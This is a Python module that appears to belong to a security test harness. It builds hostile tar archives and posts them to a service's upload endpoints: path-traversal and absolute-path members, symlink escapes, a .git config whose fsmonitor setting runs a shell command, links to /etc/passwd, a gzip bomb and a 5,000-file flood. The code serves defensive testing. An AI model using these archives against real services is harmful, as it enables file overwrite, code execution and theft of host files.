"""Archives that would write outside their folder, bring more than files, or fill the disk."""

from __future__ import annotations

import gzip
import io
import tarfile
import uuid
from collections.abc import Callable
from pathlib import Path
from tempfile import gettempdir

from aar.attacks.field import undefended
from aar.attacks.field.attack import Act, Feat, attack
from aar.attacks.field.ground import Ground
from aar.lab.fakes import METHOD

FAMILY = "archives"
BOMB = 50_000_000
Member = tuple[str, bytes | tarfile.TarInfo]


def tar(*members: Member, packed: bool = False) -> bytes:
    """A tar made by Python's own library, as an attacker would."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz" if packed else "w", format=tarfile.GNU_FORMAT) as file:
        for name, body in [*METHOD.items(), *members]:
            info = body if isinstance(body, tarfile.TarInfo) else tarfile.TarInfo(name)
            info.name = name
            if isinstance(body, bytes):
                info.size = len(body)
            file.addfile(info, io.BytesIO(body) if isinstance(body, bytes) else None)
    return out.getvalue()


def link(kind: bytes, target: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo()
    info.type, info.linkname = kind, target
    return info


def escape(name: str, what: str, members: Callable[[Path], list[Member]], remote: bool = True) -> None:
    """An attack that wants a file to appear at a path outside."""

    def act(ground: Ground) -> Feat:
        marker = Path(gettempdir(), f"aar-escaped-{uuid.uuid4().hex}")
        try:
            return _sent(ground, tar(*members(marker)), lambda: marker.exists())
        finally:
            marker.unlink(missing_ok=True)

    _add(name, what, act, remote)


def _add(name: str, what: str, act: Act, remote: bool = True) -> None:
    act.__doc__ = what
    attack(name, FAMILY, off=undefended.plain_tarfile, remote=remote)(act)


def _sent(ground: Ground, data: bytes, escaped: Callable[[], bool]) -> Feat:
    """Once as a snapshot, once as a submission."""
    eve, problem = ground.outside()
    kind = {"Content_Type": "application/octet-stream"}
    replies = [eve.raw("POST", path, data, **kind) for path in ("snapshots", f"submissions?problem={problem}&name=m")]
    loot = ["a file outside"] if escaped() else []
    loot += [f"accepted: {r.status}" for r in replies if r.status in (201, 202)]
    met = tuple(sorted({f"{r.status} {r.code}" for r in replies if r.code}))
    return Feat(loot=tuple(loot), met=met, queries=2)


UP = "../" * 12
escape("a climbing name", "Send a tar with a file whose name climbs out by `..`.",
       lambda to: [(UP + str(to).lstrip("/"), b"x")])  # fmt: skip
escape("an absolute name", "Send a tar with a file whose name begins at the root.", lambda to: [(str(to), b"x")])
escape("a link to a folder", "Send a tar with a link to a folder outside, and a file below the link.",
       lambda to: [("out", link(tarfile.SYMTYPE, str(to.parent))), (f"out/{to.name}", b"x")])  # fmt: skip
escape("a repository in the tar", "Send a tar with a .git whose configuration runs a program at the next git command.",
       lambda to: [(".git/HEAD", b"ref: refs/heads/x\n"), (".git/objects/x", b""), (".git/refs/x", b""),
                   (".git/config", f"[core]\n\tfsmonitor = touch {to}; true\n".encode())])  # fmt: skip


def _links(ground: Ground) -> Feat:
    feats = [_sent(ground, tar(("stolen.txt", link(kind, "/etc/passwd"))), lambda: False)
             for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE, b"S")
             if not (ground.control and kind not in (tarfile.SYMTYPE,))]  # fmt: skip
    return Feat(
        loot=sum((f.loot for f in feats), ())[:2],
        met=tuple(sorted({m for f in feats for m in f.met})),
        queries=2 * len(feats),
    )


_add(
    "links and devices",
    "Send tars with a symbolic or hard link to a file of the host, a device, a pipe, a sparse file.",
    _links,
)


def _bomb(ground: Ground) -> Feat:
    return _sent(ground, gzip.compress(tar(("data", bytes(BOMB)))), lambda: False)


_add("a bomb", "Send 50 kB that unpack to 50 MB.", _bomb, remote=False)


def _many(ground: Ground) -> Feat:
    return _sent(ground, tar(*((f"f{i}", b"") for i in range(5_000)), packed=True), lambda: False)


_add("five thousand files", "Send a tar of more files than a person could review.", _many, remote=False)
